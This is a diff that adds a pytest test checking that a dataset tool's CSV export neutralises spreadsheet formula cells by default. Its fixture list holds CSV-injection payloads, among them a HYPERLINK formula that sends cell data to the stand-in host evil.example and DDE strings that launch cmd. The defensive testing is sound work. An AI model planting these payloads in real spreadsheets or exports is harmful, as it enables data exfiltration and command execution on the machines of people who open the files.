@@ -136,3 +136,35 @@ def test_kwise_file_of_only_ties_says_why_nothing_was_stored(ws, tmp_path):
     with pytest.raises(DataError, match="all tied give no pairs"):
         import_file(ws, src, "ties")
     assert R.list_datasets(ws.conn) == []
+
+
+FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1, \"Klick\")", "+1+cmd|' /C calc'!A0", "- a Markdown list item",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+def test_csv_export_neutralises_formula_cells_by_default(ws, tmp_path):
+    import csv
+
+    rows = [{"prompt": p, "chosen": "Sicher: ñ ✓", "rejected": p, "score_chosen": -1.5, "score_rejected": -2.25}
+            for p in FORMULAS] + [{"prompt": "plain = text", "chosen": "a", "rejected": "b", "score_chosen": 1.0,
+                                   "score_rejected": 0.0}]
+    src = tmp_path / "in.jsonl"
+    src.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), encoding="utf-8")
+    import_file(ws, src, "d")
+    stored = [r["prompt"] for r in _contents(ws, "d")]
+    assert stored[:len(FORMULAS)] == FORMULAS
+
+    def cells(path):
+        with open(path, encoding="utf-8", newline="") as f:
+            return list(csv.DictReader(f))
+
+    safe = cells(export_dataset(ws, "d", "csv", tmp_path / "safe.csv").path)
+    for row, text in zip(safe, stored):
+        dangerous = text.startswith(("=", "+", "-", "@", "\t", "\r"))
+        assert row["prompt"] == ("'" + text if dangerous else text)
+        assert row["rejected"] == row["prompt"] or not dangerous
+        assert row["score_chosen"] == ("-1.5" if dangerous else "1.0")  # numbers stay numbers
+    kept = cells(export_dataset(ws, "d", "csv", tmp_path / "kept.csv", csv_formulas="keep").path)
+    assert [r["prompt"] for r in kept] == stored
+    with pytest.raises(WorkbenchError, match="neutralise or keep"):
+        export_dataset(ws, "d", "csv", tmp_path / "x.csv", csv_formulas="maybe")
